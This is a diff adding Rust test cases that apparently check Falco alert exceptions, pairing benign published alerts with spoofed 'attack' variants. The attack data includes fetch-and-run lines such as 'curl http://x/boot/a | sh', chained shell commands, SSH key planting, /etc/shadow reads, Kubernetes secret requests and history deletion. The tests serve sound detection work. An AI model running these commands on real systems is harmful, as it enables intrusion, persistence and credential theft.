@@ -655,6 +655,363 @@ fn cases() -> Vec<Case> {
                 ),
             )],
         },
+        // --- Older outputs (fewer fields): each case is a real published line's fields. ---
+        Case {
+            id: "event-generator-legacy-image",
+            // falcosecurity/falco#534.
+            benign: alert(
+                "DB program spawned process",
+                json!({"proc.name": "ls", "proc.pname": "mysqld", "user.name": "root",
+                       "container.image.repository": "sysdig/falco-event-generator"}),
+            ),
+            attacks: vec![(
+                "an image merely named like it",
+                alert(
+                    "DB program spawned process",
+                    json!({"proc.name": "ls", "proc.pname": "mysqld",
+                           "container.image.repository": "evil/falco-event-generator-miner"}),
+                ),
+            )],
+        },
+        Case {
+            id: "falcoctl-artifacts-host",
+            benign: alert(
+                "Write below etc",
+                json!({"proc.cmdline": "falcoctl artifact follow --allowed-types=rulesfile",
+                       "fd.name": "/etc/falco/._check_writable", "container.id": "host"}),
+            ),
+            attacks: vec![
+                (
+                    "falcoctl's name writing elsewhere in /etc",
+                    alert(
+                        "Write below etc",
+                        json!({"proc.cmdline": "falcoctl artifact follow", "fd.name": "/etc/cron.d/x"}),
+                    ),
+                ),
+                (
+                    "a shell writing Falco's directory",
+                    alert(
+                        "Write below etc",
+                        json!({"proc.cmdline": "sh -c echo > /etc/falco/falco_rules.local.yaml",
+                               "fd.name": "/etc/falco/falco_rules.local.yaml"}),
+                    ),
+                ),
+            ],
+        },
+        Case {
+            id: "systemd-account-services-comm",
+            benign: alert(
+                "Read sensitive file untrusted",
+                json!({"proc.name": "systemd-userwor", "proc.pname": "systemd-userdbd",
+                       "fd.name": "/etc/shadow", "container.id": "host"}),
+            ),
+            attacks: vec![(
+                "the worker's name under a shell",
+                alert(
+                    "Read sensitive file untrusted",
+                    json!({"proc.name": "systemd-userwor", "proc.pname": "bash", "fd.name": "/etc/shadow"}),
+                ),
+            )],
+        },
+        Case {
+            id: "passwd-backup-compare-quiet",
+            // falcosecurity/falco PR 171 / 192.
+            benign: alert(
+                "Read sensitive file untrusted",
+                json!({"proc.name": "cmp", "proc.cmdline": "cmp -s shadow.bak /etc/shadow",
+                       "fd.name": "/etc/shadow"}),
+            ),
+            attacks: vec![(
+                "cmp printing the differences",
+                alert(
+                    "Read sensitive file untrusted",
+                    json!({"proc.name": "cmp", "proc.cmdline": "cmp -l shadow.bak /etc/shadow",
+                           "fd.name": "/etc/shadow"}),
+                ),
+            )],
+        },
+        Case {
+            id: "docker-layer-unpack-path",
+            // falcosecurity/falco PR 947.
+            benign: alert(
+                "Write below etc",
+                json!({"proc.cmdline": "exe /var/lib/docker/overlay2/b96d5259b14161da7fe7f3f0c036d723bbd937bc83cf6abdcac850210c397759/diff",
+                       "proc.pname": null, "fd.name": "/etc/group", "container.id": "host"}),
+            ),
+            attacks: vec![(
+                "an `exe` with another argument",
+                alert(
+                    "Write below etc",
+                    json!({"proc.cmdline": "exe /var/lib/docker/../../etc", "fd.name": "/etc/group",
+                           "container.id": "host"}),
+                ),
+            )],
+        },
+        Case {
+            id: "kernel-package-maintainer-script",
+            // falcosecurity/falco PR 200.
+            benign: alert(
+                "Run shell untrusted",
+                json!({"proc.name": "sh", "proc.pname": "linux-image-4.4",
+                       "proc.cmdline": "sh -c /usr/sbin/update-initramfs -c -k 4.4.0-53-generic >&2"}),
+            ),
+            attacks: vec![
+                (
+                    "a download under the same parent name",
+                    alert(
+                        "Run shell untrusted",
+                        json!({"proc.name": "sh", "proc.pname": "linux-image-4.4",
+                               "proc.cmdline": "sh -c curl http://x/boot/a | sh"}),
+                    ),
+                ),
+                (
+                    "the commands under another parent",
+                    alert(
+                        "Run shell untrusted",
+                        json!({"proc.name": "sh", "proc.pname": "nginx",
+                               "proc.cmdline": "sh -c /usr/sbin/update-initramfs -u"}),
+                    ),
+                ),
+            ],
+        },
+        Case {
+            id: "kernel-upgrade-hook",
+            benign: alert(
+                "Write below etc",
+                json!({"proc.name": "apt-auto-remova",
+                       "proc.cmdline": "apt-auto-remova /etc/kernel/postinst.d/apt-auto-removal 4.4.0-53-generic /boot/vmlinuz-4.4.0-53-generic",
+                       "fd.name": "/etc/apt/apt.conf.d/01autoremove-kernels.dpkg-new"}),
+            ),
+            attacks: vec![(
+                "a hook path with a chained command",
+                alert(
+                    "Write below etc",
+                    json!({"proc.cmdline": "sh /etc/kernel/postinst.d/x 1; curl x /boot/vmlinuz-1",
+                           "fd.name": "/etc/passwd"}),
+                ),
+            )],
+        },
+        Case {
+            id: "erlang-port-helper-shell",
+            // falcosecurity/falco PR 221.
+            benign: alert(
+                "Run shell untrusted",
+                json!({"proc.name": "sh", "proc.pname": "erl_child_setup",
+                       "proc.cmdline": "sh -c exec /bin/sh -s unix:cmd"}),
+            ),
+            attacks: vec![(
+                "another command under the Erlang helper",
+                alert(
+                    "Run shell untrusted",
+                    json!({"proc.name": "sh", "proc.pname": "erl_child_setup",
+                           "proc.cmdline": "sh -c wget -qO- http://x | sh"}),
+                ),
+            )],
+        },
+        Case {
+            id: "cfengine-agent",
+            // falcosecurity/falco#3120.
+            benign: alert(
+                "Write below root",
+                json!({"proc.name": "cf-agent", "proc.pname": "cf-execd",
+                       "fd.name": "/etc/sssd/cf_lock.lmdb.lock"}),
+            ),
+            attacks: vec![(
+                "cf-agent's name under a shell",
+                alert(
+                    "Write below root",
+                    json!({"proc.name": "cf-agent", "proc.pname": "bash", "fd.name": "/root/.ssh/x"}),
+                ),
+            )],
+        },
+        Case {
+            id: "falco-syscall-drop-report",
+            benign: alert(
+                "Falco internal: syscall event drop",
+                json!({"n_drops": "1", "n_drops_buffer": "1", "n_evts": "33814"}),
+            ),
+            attacks: vec![(
+                "the rule's name without Falco's counters",
+                alert(
+                    "Falco internal: syscall event drop",
+                    json!({"proc.cmdline": "sh"}),
+                ),
+            )],
+        },
+        Case {
+            id: "snapd-update-ns",
+            // elastisys/compliantkubernetes-apps#898.
+            benign: alert(
+                "Change thread namespace",
+                json!({"proc.cmdline": "snap-update-ns lxd", "proc.pname": "snapd", "container.id": "host"}),
+            ),
+            attacks: vec![(
+                "the name with a command chained",
+                alert(
+                    "Change thread namespace",
+                    json!({"proc.cmdline": "snap-update-ns lxd; sh", "proc.pname": "snapd"}),
+                ),
+            )],
+        },
+        Case {
+            id: "go-toolchain-module-cache",
+            // falcosecurity/falco#1275.
+            benign: alert(
+                "Container Drift Detected (chmod)",
+                json!({"proc.cmdline": "go build -o event-generator .",
+                       "evt.arg.filename": "/go/pkg/mod/k8s.io/kubectl@v0.17.3/testdata/set"}),
+            ),
+            attacks: vec![(
+                "a binary dropped outside the caches",
+                alert(
+                    "Container Drift Detected (chmod)",
+                    json!({"proc.cmdline": "go build -o /usr/local/bin/x .",
+                           "evt.arg.filename": "/usr/local/bin/x"}),
+                ),
+            )],
+        },
+        Case {
+            id: "cloud-init-ssh-keys",
+            // falcosecurity/falco PR 445.
+            benign: alert(
+                "Write below monitored dir",
+                json!({"proc.cmdline": "cloud-init /usr/bin/cloud-init init",
+                       "fd.name": "/root/.ssh/authorized_keys"}),
+            ),
+            attacks: vec![(
+                "a shell appending a key",
+                alert(
+                    "Write below monitored dir",
+                    json!({"proc.cmdline": "sh -c echo key >> /root/.ssh/authorized_keys",
+                           "fd.name": "/root/.ssh/authorized_keys"}),
+                ),
+            )],
+        },
+        Case {
+            id: "kube-proxy-privileged",
+            benign: alert(
+                "Launch Privileged Container",
+                json!({"k8s.ns.name": "kube-system", "k8s.pod.name": "kube-proxy-v2ffs",
+                       "container.image.repository": "k8s.gcr.io/pause"}),
+            ),
+            attacks: vec![
+                (
+                    "a kube-proxy-named pod in another namespace",
+                    alert(
+                        "Launch Privileged Container",
+                        json!({"k8s.ns.name": "default", "k8s.pod.name": "kube-proxy-abcde",
+                               "container.image.repository": "k8s.gcr.io/pause"}),
+                    ),
+                ),
+                (
+                    "another image in a kube-proxy-named pod",
+                    alert(
+                        "Launch Privileged Container",
+                        json!({"k8s.ns.name": "kube-system", "k8s.pod.name": "kube-proxy-abcde",
+                               "container.image.repository": "alpine"}),
+                    ),
+                ),
+            ],
+        },
+        Case {
+            id: "fluentd-k8s-metadata-cmdline",
+            // falcosecurity/falco#1435.
+            benign: alert(
+                "Contact K8S API Server From Container",
+                json!({"proc.cmdline": "event_loop -Eascii-8bit:ascii-8bit /usr/local/bundle/bin/fluentd -c /fluentd/etc/fluent.conf -p /fluentd/plugins --under-supervisor"}),
+            ),
+            attacks: vec![(
+                "curl to the API server",
+                alert(
+                    "Contact K8S API Server From Container",
+                    json!({"proc.cmdline": "curl -k https://kubernetes.default/api/v1/secrets"}),
+                ),
+            )],
+        },
+        Case {
+            id: "fission-fetcher",
+            benign: alert(
+                "Contact K8S API Server From Container",
+                json!({"proc.cmdline": "fetcher -secret-dir /secrets -cfgmap-dir /configs",
+                       "container.image.repository": "fission/fetcher"}),
+            ),
+            attacks: vec![(
+                "a shell in the fetcher image",
+                alert(
+                    "Contact K8S API Server From Container",
+                    json!({"proc.cmdline": "sh -c curl https://kubernetes.default",
+                           "container.image.repository": "fission/fetcher"}),
+                ),
+            )],
+        },
+        Case {
+            id: "deckhouse-operator-disk-check",
+            // deckhouse/deckhouse PR 9189.
+            benign: alert(
+                "Attach/Exec Pod",
+                json!({"ka.user.name": "system:serviceaccount:d8-system:deckhouse",
+                       "ka.uri.param[command]": "df", "ka.target.name": "prometheus-main-0"}),
+            ),
+            attacks: vec![(
+                "the operator's account opening a shell",
+                alert(
+                    "Attach/Exec Pod",
+                    json!({"ka.user.name": "system:serviceaccount:d8-system:deckhouse",
+                           "ka.uri.param[command]": "sh"}),
+                ),
+            )],
+        },
+        Case {
+            id: "zsh-history-lock-file",
+            benign: alert(
+                "Delete or rename shell history",
+                json!({"proc.cmdline": "zsh", "evt.arg.path": "/root/.zsh_history.LOCK", "evt.type": "unlink"}),
+            ),
+            attacks: vec![(
+                "the history file itself removed",
+                alert(
+                    "Delete or rename shell history",
+                    json!({"proc.cmdline": "rm -f /root/.zsh_history", "evt.arg.path": "/root/.zsh_history"}),
+                ),
+            )],
+        },
+        Case {
+            id: "shell-writes-own-history-below-root",
+            benign: alert(
+                "Write below root",
+                json!({"proc.name": "zsh", "proc.pname": "sshd", "fd.name": "/root/.zsh_history"}),
+            ),
+            attacks: vec![(
+                "a shell writing another file below /root",
+                alert(
+                    "Write below root",
+                    json!({"proc.name": "bash", "fd.name": "/root/.ssh/authorized_keys"}),
+                ),
+            )],
+        },
+        Case {
+            id: "configmap-placeholder-aws-key",
+            benign: alert(
+                "Create/Modify Configmap With Private Credentials",
+                json!({"ka.req.configmap.obj": "{\\\"aws_access_key_id\\\":\\\"super-secret\\\"}"}),
+            ),
+            attacks: vec![
+                (
+                    "a real-looking access key id",
+                    alert(
+                        "Create/Modify Configmap With Private Credentials",
+                        json!({"ka.req.configmap.obj": "{\"aws_access_key_id\":\"AKIAIOSFODNN7EXAMPL1\"}"}),
+                    ),
+                ),
+                (
+                    "a placeholder id beside a secret",
+                    alert(
+                        "Create/Modify Configmap With Private Credentials",
+                        json!({"ka.req.configmap.obj": "{\"aws_access_key_id\":\"x\",\"aws_secret_access_key\":\"wJalrXUtnFEMI\"}"}),
+                    ),
+                ),
+            ],
+        },
     ]
 }
 
